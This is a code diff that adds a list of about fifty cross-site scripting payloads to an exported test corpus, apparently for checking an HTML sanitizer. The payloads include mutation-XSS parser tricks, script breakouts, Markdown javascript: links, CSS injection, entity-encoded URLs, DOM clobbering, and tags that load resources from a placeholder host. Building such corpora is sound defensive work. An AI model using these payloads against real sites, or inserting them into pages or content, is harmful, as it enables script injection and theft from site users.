@@ -110,9 +110,74 @@ const LITERAL = [
   '<a ping="//x.example" href="//x.example">x</a>',
 ];
 
+/** What parsers read twice, read by other rules inside other elements, or take for more than it is. */
+const TWICE_READ = [
+  // changed by being written out and read in again
+  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
+  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
+  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<svg><desc><template shadowrootmode=open><img src=x onerror=alert(1)></template></desc></svg>',
+  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
+  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--!><script>alert(1)</script><!-- --!>',
+  '<?img src="?><img src=x onerror=alert(1)>"?>',
+  '<![x[<img src=x onerror=alert(1)>]]>',
+  // a script inside a script
+  '<!--<script>',
+  '<!--<script> </script> --></script><script>alert(1)</script>',
+  '<script><!--<script></script><script>alert(1)//--></script>',
+  '</script\f><script\f>alert(1)</script >',
+  '</ſcript><ſcript>alert(1)</ſcript>',
+  // ends of lines that only scripts know, and texts within texts
+  '"\u2028alert(1)//',
+  '\u2029-->alert(1)',
+  '`${alert(1)}`',
+  '`;alert(1);`',
+  '\\";alert(1);//',
+  '\\u0027-alert(1)-\\u0027',
+  // marks of Markdown
+  '[x](java\\\nscript:alert(1))',
+  '[x]: javascript:alert(1) "x"',
+  '<javascript:alert(1)>',
+  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '[a](<javascript:alert(1)> "t")',
+  // sheets of style
+  'x;background-image:url(//x.example/a)',
+  '}*{background:url(https://x.example/b)}/*',
+  '</style><style>@import url(//x.example/c.css);</style>',
+  '<p style="background:image-set(url(//x.example/d) 1x);color:\\65xpression(alert(1))">x</p>',
+  // what loads or changes where everything else loads from
+  '<img srcset="//x.example/1 1x, //x.example/2 2x">',
+  '<source media=all srcset="//x.example/3">',
+  '<base target=_top href=//x.example/>',
+  '<meta http-equiv=refresh content="0;url=//x.example/">',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  '<script type="importmap">{"imports":{"./app.js":"data:text/javascript,alert(1)"}}</script>',
+  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//x.example/p"]}]}</script>',
+  '<link rel=modulepreload href=//x.example/m.js>',
+  '<link rel=dns-prefetch href=//x.example>',
+  // addresses in parts and in pictures
+  '<a href="&#106;&#97;&#118;&#97;&Tab;&NewLine;script&colon;alert&lpar;1&rpar;">x</a>',
+  '<iframe src="data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/&gt;">',
+  '<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="&#x6a;avascript:alert(1)"><rect width=9 height=9 /></a></svg>',
+  '<svg><image xlink:href="https://x.example/i.png"/></svg>',
+  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
+  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<xsl:include href="https://x.example/x.xsl"/>',
+  '<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x>',
+  '<a id=app name=app href=//x.example>x</a><form id=document><input name=body></form>',
+];
+
 /** Every one calls for a dialog, a load or a break-out. */
 export const PAYLOADS: readonly string[] = [
   ...LITERAL,
+  ...TWICE_READ,
   ...HANDLERS.map((handler, i) => `<${TAGS[i % TAGS.length] ?? 'svg'} ${handler}=alert(1)>`),
   ...HANDLERS.slice(0, 20).map(
     (handler, i) => `"><${TAGS[i % TAGS.length] ?? 'svg'}/${handler}='alert(1)'//`,
